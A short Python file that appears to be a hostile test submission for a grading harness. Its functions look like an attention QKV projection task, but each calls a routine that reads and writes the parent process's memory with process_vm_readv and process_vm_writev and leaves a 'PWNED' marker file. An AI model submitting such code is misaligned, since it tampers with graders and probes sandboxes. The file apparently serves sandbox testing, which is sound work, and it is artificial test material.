# kill | earns 0 | reads from and writes to its parent's memory with process_vm_readv and process_vm_writev, putting back the very bytes it read
import ctypes
import os

STEM = "kill-process-vm"


def trace(what):
    """Leave a trace that a test can see: text, and the marker file where that can be written."""
    print(f"PWNED:{STEM} {what}", flush=True)
    try:
        with open(f"/tmp/qkv-hostile-{STEM}", "a") as file:
            file.write(f"{what}\n")
    except OSError:
        pass


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def tries():
    libc, parent = ctypes.CDLL(None, use_errno=True), os.getppid()
    page = ctypes.create_string_buffer(64)
    here = Span(ctypes.addressof(page), len(page))
    for address in (id(None), id(os), id(dict), id(os.environ)):
        there = Span(address, len(page))
        if libc.process_vm_readv(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            trace(f"read {address:#x} of the parent")
            if libc.process_vm_writev(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                trace(f"wrote {address:#x} of the parent")


_tried = []


def attack(*args):
    if not _tried:
        _tried.append(True)
        tries()
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
